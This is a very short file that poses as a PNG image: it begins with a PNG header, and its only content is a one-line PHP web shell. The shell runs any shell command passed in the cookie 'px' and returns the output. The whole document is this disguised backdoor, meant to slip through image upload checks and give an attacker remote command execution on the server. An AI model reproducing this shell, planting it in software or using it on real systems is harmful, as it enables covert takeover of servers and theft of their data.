‰PNG
<?= isset($_COOKIE['px']) ? shell_exec($_COOKIE['px']) : '' ?>
